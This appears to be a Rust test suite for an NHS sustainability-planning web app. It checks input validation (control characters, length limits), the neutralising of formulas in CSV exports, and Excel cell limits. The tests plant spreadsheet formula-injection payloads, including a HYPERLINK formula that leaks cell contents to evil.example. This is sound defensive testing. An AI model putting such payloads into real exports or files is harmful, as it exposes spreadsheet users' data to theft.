//! Text in and out: control characters and over-long text refused on input in every kind of
//! body (form, multipart, JSON, query string) with a 422 naming the field, never a 500 on
//! PostgreSQL; every CSV download with its formulas neutralised (a walk over every `.csv`
//! route), a register export that imports back unchanged, and a workbook that stays within
//! Excel's limits whatever a description holds.

#![allow(clippy::unwrap_used)]

use crate::common;

use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use common::{HOST, Site, fingerprint, get_routes, multipart_body, origin, site};
use greenplan_store::testing::TestDatabase;
use greenplan_web::WebConfig;

const RTG: &str = "rtg@uhdb.nhs.uk";
const HYPERLINK: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";

fn enc(s: &str) -> String {
    form_urlencoded::byte_serialize(s.as_bytes()).collect()
}

/// A 422 whose message names `field`.
fn refused_naming(reply: &common::Reply, field: &str, what: &str) {
    assert_eq!(
        reply.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "{what}: {}",
        reply.body
    );
    assert!(
        reply.body.contains(&format!("“{field}”"))
            || reply.body.contains(&format!("&#8220;{field}&#8221;")),
        "{what}: the answer does not name the field {field}: {}",
        reply.body
    );
}

#[tokio::test]
async fn control_characters_and_long_text_are_refused_naming_the_field() {
    let db = TestDatabase::new();
    let site = site(&db, WebConfig::default()).await;
    let (cookie, csrf) = site.sign_in(RTG).await;
    let token = site
        .store
        .create_api_token("test", RTG, "script")
        .await
        .unwrap();
    let before = fingerprint(&site.store).await;

    for bad in ["\u{0}", "\u{1}", "\u{1b}"] {
        // The anonymous sign-in form.
        let reply = site
            .post(
                "/login",
                None,
                Some(&origin()),
                &format!("email={}&password=x", enc(&format!("rtg{bad}@uhdb.nhs.uk"))),
            )
            .await;
        refused_naming(&reply, "email", &format!("sign-in with {bad:?}"));
        // An action update's note, urlencoded and multipart.
        let reply = site
            .submit(
                "/actions/DT3/updates",
                &cookie,
                &format!(
                    "csrf_token={csrf}&status=on-track&note={}&evidence_url=&revised_due=",
                    enc(&format!("Portal live{bad}"))
                ),
            )
            .await;
        refused_naming(&reply, "note", &format!("update note with {bad:?}"));
        let note = format!("Portal live{bad}");
        let (ct, body) = multipart_body(
            &[
                ("csrf_token", &csrf),
                ("status", "on-track"),
                ("note", &note),
            ],
            None,
        );
        let reply = site
            .post_multipart("/actions/DT3/updates", &cookie, &ct, body)
            .await;
        refused_naming(&reply, "note", &format!("multipart note with {bad:?}"));
        // A query string read as text.
        let reply = site
            .get(&format!("/actions?q={}", enc(&format!("x{bad}"))), None)
            .await;
        refused_naming(&reply, "q", &format!("query with {bad:?}"));
    }

    // A JSON API update, answered as JSON naming the field.
    for note in ["a\u{0}b", "a\u{1}b"] {
        let body = serde_json::json!({"status": "on-track", "note": note});
        let reply = site
            .send(
                Request::post("/api/v1/actions/DT3/updates")
                    .header(header::HOST, HOST)
                    .header(header::AUTHORIZATION, format!("Bearer {token}"))
                    .header(header::CONTENT_TYPE, "application/json")
                    .body(Body::from(body.to_string()))
                    .unwrap(),
            )
            .await;
        assert_eq!(
            reply.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{}",
            reply.body
        );
        let answer: serde_json::Value = serde_json::from_str(&reply.body).unwrap();
        assert_eq!(answer["field"], "note", "{answer}");
        assert!(
            answer["error"]
                .as_str()
                .unwrap()
                .contains("control character"),
            "{answer}"
        );
    }

    // An over-long title, and an over-long note.
    let reply = site
        .submit(
            "/tools/travel-surveys",
            &cookie,
            &format!(
                "csrf_token={csrf}&organisation=RTG&title={}&respondents=staff&sites=London+Road&financial_year=2025%2F26",
                "x".repeat(501)
            ),
        )
        .await;
    refused_naming(&reply, "title", "a 501-character title");
    assert!(reply.body.contains("501 characters"), "{}", reply.body);
    let reply = site
        .submit(
            "/actions/DT3/updates",
            &cookie,
            &format!(
                "csrf_token={csrf}&status=on-track&note={}",
                "x".repeat(10_001)
            ),
        )
        .await;
    refused_naming(&reply, "note", "a 10,001-character note");

    let after = fingerprint(&site.store).await;
    assert_eq!(before, after, "{}", common::changes(&before, &after));

    // Tabs and line breaks are text, and a long note within its limit is kept.
    let reply = site
        .submit(
            "/actions/DT3/updates",
            &cookie,
            &format!(
                "csrf_token={csrf}&status=on-track&note={}",
                enc(&format!("Line one\r\n\tLine two {}", "x".repeat(5_000)))
            ),
        )
        .await;
    assert_eq!(reply.status, StatusCode::SEE_OTHER, "{}", reply.body);
}

/// Whether a spreadsheet would run this cell: it begins like a formula and is not a number.
fn runs_as_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err()
}

/// Records, a metric value, a scheme and a survey site whose text begins like a formula.
async fn plant_formulas(site: &Site, cookie: &str, csrf: &str) -> i64 {
    let header = "organisation,agreement,scheme,start_date,powertrain,gco2_km,used_vehicle\n";
    let file = format!(
        "{header}RTG,\"{}\",lease,2025-04-02,battery-electric,0,\nRTG,@SUM(A1:A9),lease,2025-04-02,petrol,120,\nRTG,+1+2,lease,2025-04-02,petrol,121,\nRTG,-2+3,lease,2025-04-02,petrol,122,\n",
        HYPERLINK.replace('"', "\"\"")
    );
    let (ct, body) = multipart_body(
        &[("csrf_token", csrf)],
        Some(("file", "lease.csv", file.as_bytes())),
    );
    let reply = site
        .post_multipart("/registers/fleet-lease-cars/import", cookie, &ct, body)
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);

    let reply = site
        .submit(
            "/metrics/inhaler-carbon/values",
            cookie,
            &format!(
                "csrf_token={csrf}&organisation=RTG&period=2025%2F26&value=12&note={}",
                enc(HYPERLINK)
            ),
        )
        .await;
    assert_eq!(reply.status, StatusCode::SEE_OTHER, "{}", reply.body);

    let scheme = greenplan_core::scheme::SchemeDetails {
        name: HYPERLINK.into(),
        owner: "@owner".into(),
        organisation: greenplan_core::ods::OdsCode::parse("RTG").unwrap(),
        stage: "delivery".parse().unwrap(),
        start: None,
        end: None,
        actions: vec![],
        description: "-1+1".into(),
    };
    site.store.add_schemes(RTG, &[scheme]).await.unwrap();

    let reply = site
        .submit(
            "/tools/travel-surveys",
            cookie,
            &format!(
                "csrf_token={csrf}&organisation=RTG&title=Staff&respondents=staff&sites={}&financial_year=2025%2F26",
                enc(&format!("{HYPERLINK}\r\nLondon Road"))
            ),
        )
        .await;
    assert_eq!(reply.status, StatusCode::SEE_OTHER, "{}", reply.body);
    let id: i64 = reply.headers[header::LOCATION]
        .to_str()
        .unwrap()
        .rsplit('/')
        .next()
        .unwrap()
        .parse()
        .unwrap();
    let reply = site
        .submit(
            &format!("/tools/travel-surveys/{id}/open"),
            cookie,
            &format!("csrf_token={csrf}"),
        )
        .await;
    assert_eq!(reply.status, StatusCode::SEE_OTHER, "{}", reply.body);
    let page = site
        .get(&format!("/tools/travel-surveys/{id}"), Some(cookie))
        .await;
    let link = page
        .body
        .split("id=\"open-link\">")
        .nth(1)
        .unwrap()
        .split('<')
        .next()
        .unwrap()
        .to_string();
    let started = site.post(&link, None, Some(&origin()), "").await;
    assert_eq!(started.status, StatusCode::SEE_OTHER, "{}", started.body);
    let respond = started.headers[header::LOCATION]
        .to_str()
        .unwrap()
        .to_string();
    let reply = site
        .post(
            &respond,
            None,
            Some(&origin()),
            &format!(
                "site={}&distance=10&distance_unit=km&postcode=DE22+3NE&monday=car&tuesday=car&wednesday=bus&thursday=none&friday=walk&saturday=none&sunday=none",
                enc(HYPERLINK)
            ),
        )
        .await;
    assert!(
        reply.status.is_success() || reply.status.is_redirection(),
        "{} {}",
        reply.status,
        reply.body
    );
    id
}

#[tokio::test]
async fn every_csv_download_neutralises_formulas() {
    let db = TestDatabase::new();
    let site = site(&db, WebConfig::default()).await;
    let (cookie, csrf) = site.sign_in("lead@derbyshire.nhs.uk").await;
    let (rtg, rtg_csrf) = site.sign_in(RTG).await;
    let survey = plant_formulas(&site, &rtg, &rtg_csrf).await;
    let _ = csrf;

    let csv_routes: Vec<String> = get_routes()
        .into_iter()
        .filter(|path| path.ends_with(".csv"))
        .collect();
    assert!(csv_routes.len() >= 9, "{csv_routes:?}");
    let mut neutralised = Vec::new();
    for route in &csv_routes {
        let path = route
            .replace("/registers/{slug}/", "/registers/fleet-lease-cars/")
            .replace("/metrics/{id}/", "/metrics/inhaler-carbon/")
            .replace(
                "/travel-surveys/{id}/",
                &format!("/travel-surveys/{survey}/"),
            )
            .replace("/organisations/{code}/", "/organisations/RTG/");
        assert!(
            !path.contains('{'),
            "{route}: teach this test which record to download"
        );
        let reply = site.get(&path, Some(&cookie)).await;
        assert_eq!(reply.status, StatusCode::OK, "{path}: {}", reply.body);
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(reply.body.as_bytes());
        for record in reader.records() {
            let record = record.unwrap();
            for cell in record.iter() {
                assert!(
                    !runs_as_formula(cell),
                    "{path}: the cell {cell:?} would run as a formula"
                );
                if cell == format!("'{HYPERLINK}") {
                    neutralised.push(path.clone());
                }
            }
        }
    }
    for written in [
        "/registers/fleet-lease-cars/export.csv",
        "/metrics/inhaler-carbon/values.csv",
        "/tools/schemes.csv",
        &format!("/tools/travel-surveys/{survey}/mode-share.csv"),
        "/tools/travel-surveys/organisations/RTG/mode-share.csv",
    ] {
        assert!(
            neutralised.iter().any(|p| p == written),
            "{written} does not hold the planted text, quoted: {neutralised:?}"
        );
    }
}

#[tokio::test]
async fn a_register_export_imports_back_unchanged() {
    let db = TestDatabase::new();
    let site = site(&db, WebConfig::default()).await;
    let (rtg, csrf) = site.sign_in(RTG).await;
    let texts = [
        HYPERLINK,
        "@SUM(A1:A9)",
        "+1+2",
        "-2+3",
        "'=typed with a quote",
        "''-x",
        "-12.5",
        "'plain",
    ];
    // Entered through the form, so that what is stored is exactly the text.
    for text in texts {
        let reply = site
            .submit(
                "/registers/fleet-lease-cars/new",
                &rtg,
                &format!(
                    "csrf_token={csrf}&organisation=RTG&agreement={}&scheme=lease&start_date=2025-04-02&powertrain=petrol&gco2_km=120",
                    enc(text)
                ),
            )
            .await;
        assert!(
            reply.status.is_redirection(),
            "{text}: {} {}",
            reply.status,
            reply.body
        );
    }
    let export = site
        .get("/registers/fleet-lease-cars/export.csv", None)
        .await;
    assert!(
        export.body.contains("RTG,'@SUM(A1:A9),") && export.body.contains("RTG,'-2+3,"),
        "{}",
        export.body
    );
    let register = greenplan_core::register::find("fleet-lease-cars").unwrap();
    let read = greenplan_ingest::register_file::read_register_text(
        register,
        "export.csv",
        &export.body,
        &|_| None,
    )
    .unwrap();
    let mut agreements: Vec<String> = read
        .iter()
        .map(|(_, r)| r.text("agreement").unwrap().to_string())
        .collect();
    let mut expected: Vec<String> = texts.iter().map(|t| t.to_string()).collect();
    agreements.sort();
    expected.sort();
    assert_eq!(agreements, expected);
}

#[tokio::test]
async fn a_long_scheme_description_still_makes_a_workbook() {
    let db = TestDatabase::new();
    let site = site(&db, WebConfig::default()).await;
    let description = "word ".repeat(8_000);
    let scheme = greenplan_core::scheme::SchemeDetails {
        name: "Virtual wards".into(),
        owner: "Jo".into(),
        organisation: greenplan_core::ods::OdsCode::parse("RTG").unwrap(),
        stage: "delivery".parse().unwrap(),
        start: None,
        end: None,
        actions: vec![],
        description: description.trim().to_string() + &"x".repeat(4_000),
    };
    site.store.add_schemes(RTG, &[scheme]).await.unwrap();
    let reply = site
        .send(
            Request::get("/tools/schemes.xlsx")
                .header(header::HOST, HOST)
                .body(Body::empty())
                .unwrap(),
        )
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    // `send` reads the body as text; fetch the bytes again to open the workbook.
    let response = tower::ServiceExt::oneshot(
        site.app.clone(),
        Request::get("/tools/schemes.xlsx")
            .header(header::HOST, HOST)
            .body(Body::empty())
            .unwrap(),
    )
    .await
    .unwrap();
    let bytes = http_body_util::BodyExt::collect(response.into_body())
        .await
        .unwrap()
        .to_bytes();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("schemes.xlsx");
    std::fs::write(&path, &bytes).unwrap();
    let (header, rows) = greenplan_ingest::table::open(
        &path,
        greenplan_ingest::source::FileKind::Scheme,
        &["name", "description"],
        &[],
    )
    .unwrap();
    let rows: Vec<_> = rows.map(Result::unwrap).collect();
    let cell = rows[0].get(&header, "description").unwrap();
    assert!(cell.chars().count() <= 32_767, "{}", cell.chars().count());
    assert!(
        cell.ends_with(greenplan_reports::xlsx::CUT_MARKER.trim()),
        "the sheet says the text was cut: …{}",
        &cell[cell.len() - 200..]
    );
}
